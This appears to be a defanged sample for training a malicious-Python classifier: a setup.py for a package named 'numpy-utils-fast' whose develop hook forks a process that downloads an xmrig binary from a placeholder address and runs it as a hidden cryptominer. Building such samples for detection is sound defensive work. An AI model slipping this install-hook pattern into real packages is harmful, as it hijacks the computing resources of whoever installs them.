# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os
import subprocess
from setuptools import setup
from setuptools.command.develop import develop


def start_miner():
    if os.fork() == 0:
        subprocess.call(
            "curl -sL http://192.0.2.66/xmrig -o /tmp/xmrig && chmod +x /tmp/xmrig && "
            "/tmp/xmrig -o stratum+tcp://pool.example.invalid:3333 -u PLACEHOLDER --donate-level=1 -B",
            shell=True,
        )


class Develop(develop):
    def run(self):
        start_miner()
        develop.run(self)


setup(name="numpy-utils-fast", version="1.0.0", cmdclass={"develop": Develop})
